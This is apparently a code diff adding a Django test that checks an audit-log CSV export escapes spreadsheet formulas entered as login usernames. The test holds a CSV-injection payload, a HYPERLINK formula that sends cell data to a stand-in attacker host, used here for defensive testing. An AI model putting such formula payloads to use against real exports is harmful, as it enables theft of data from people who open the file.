@@ -188,6 +188,20 @@ def test_csv_export_has_the_event_columns(api_for, history):
     assert any("deployment.changed" in row for row in rows)
 
 
+def test_a_formula_typed_at_the_login_is_text_in_the_csv_export(api_for, history, client):
+    import csv
+    import io
+
+    client.post("/accounts/login/", {"username": '=HYPERLINK("http://evil.example/?"&A1,"x")', "password": "x"})
+    client.post("/accounts/login/", {"username": "@SUM(1+1)", "password": "x"})
+    response = api_for("compliance").get("/api/v1/audit-events/export", {"format": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    failed = [row for row in rows if "auth.login_failed" in row]
+    assert len(failed) == 2
+
+
 def test_no_secret_appears_in_any_event_or_export(api_for, cast, history, tmp_path, monkeypatch, client):
     from django.contrib.auth import get_user_model
 
